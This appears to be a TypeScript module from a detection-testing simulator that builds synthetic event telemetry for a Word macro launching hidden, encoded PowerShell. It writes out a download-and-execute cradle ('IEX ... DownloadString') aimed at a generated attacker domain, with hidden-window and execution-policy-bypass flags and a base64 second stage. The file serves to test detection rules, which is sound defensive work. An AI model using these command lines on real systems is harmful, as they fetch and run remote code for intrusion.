import type { ActionInput } from "@/lib/engine/actions";
import type { Procedure } from "@/lib/engine/procedure";
import { attackerDomain, CONHOST, CONHOST_ARGS, encodePowerShell, POWERSHELL } from "./common";

const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";

/** A macro document opened in Word runs a hidden, encoded PowerShell download cradle. */
export const encodedCradleFromWord: Procedure = {
  id: "t1059.001-word-encoded-cradle",
  technique: "T1059.001",
  name: "Encoded PowerShell download cradle from a Word macro",
  description:
    "The user opens a macro-enabled invoice from Downloads; WINWORD.EXE starts a hidden powershell.exe with -EncodedCommand that downloads and runs a script with Net.WebClient (DNS, HTTP connection, 4104 script blocks).",
  variants: ["http", "https"],
  expectedRules: ["f4bbd493-b796-416e-bbf2-121235348529", "36210e0d-5b19-485d-a087-c096088885f0"],
  build({ rng, names, variant }) {
    const home = `C:\\Users\\${names.user}`;
    const doc = `${home}\\Downloads\\Invoice_${rng.int(10000, 99999)}.docm`;
    const domain = attackerDomain(rng);
    const https = variant === "https";
    const url = `${https ? "https" : "http"}://${domain}/${rng.pick(["a", "s", "wp", "js"])}/${rng.hex(6)}.ps1`;
    const cradle = `IEX (New-Object Net.WebClient).DownloadString('${url}')`;
    const stage2 = `$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('${btoa(rng.hex(48))}'));\n$t = (New-Object IO.StreamReader($s)).ReadToEnd();\nStart-Sleep -Seconds ${rng.int(2, 9)}; IEX $t`;
    const temp = `${home}\\AppData\\Local\\Temp`;
    const actions: ActionInput[] = [
      { id: "download", kind: "file.create", proc: "@msedge", path: doc },
      {
        id: "motw",
        kind: "file.stream",
        proc: "@msedge",
        path: doc,
        stream: "Zone.Identifier",
        contents: "[ZoneTransfer]  ZoneId=3",
        delayMs: 40,
      },
      {
        id: "word",
        kind: "process.create",
        proc: "word",
        parent: "@explorer",
        image: WORD,
        commandLine: `"${WORD}" /n "${doc}" /o ""`,
        currentDirectory: `${home}\\Downloads`,
      },
      { id: "vbe", kind: "image.load", proc: "word", image: "C:\\Windows\\System32\\wininet.dll" },
      {
        id: "ps",
        kind: "process.create",
        proc: "ps",
        parent: "word",
        image: POWERSHELL,
        commandLine: `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encodePowerShell(cradle)}`,
        delayMs: rng.int(1500, 6000),
      },
      {
        id: "conhost",
        kind: "process.create",
        proc: "ps-conhost",
        parent: "ps",
        image: CONHOST,
        commandLine: CONHOST_ARGS,
      },
      { id: "amsi", kind: "image.load", proc: "ps", image: "C:\\Windows\\System32\\amsi.dll", after: ["ps"] },
      {
        id: "policy",
        kind: "file.create",
        proc: "ps",
        path: `${temp}\\__PSScriptPolicyTest_${rng.hex(8)}.${rng.hex(3)}.ps1`,
      },
      { id: "sb1", kind: "powershell.scriptblock", proc: "ps", script: cradle },
      { id: "dns", kind: "dns.query", proc: "ps", name: domain },
      {
        id: "conn",
        kind: "network.connect",
        proc: "ps",
        protocol: "tcp",
        remote: domain,
        port: https ? 443 : 80,
      },
      {
        id: "module",
        kind: "powershell.module",
        proc: "ps",
        command: "New-Object",
        parameters: { TypeName: "Net.WebClient" },
      },
      { id: "sb2", kind: "powershell.scriptblock", proc: "ps", script: stage2, delayMs: 800 },
      { id: "ps-exit", kind: "process.terminate", proc: "ps", delayMs: rng.int(4000, 15000) },
      { id: "conhost-exit", kind: "process.terminate", proc: "ps-conhost" },
    ];
    return actions;
  },
};
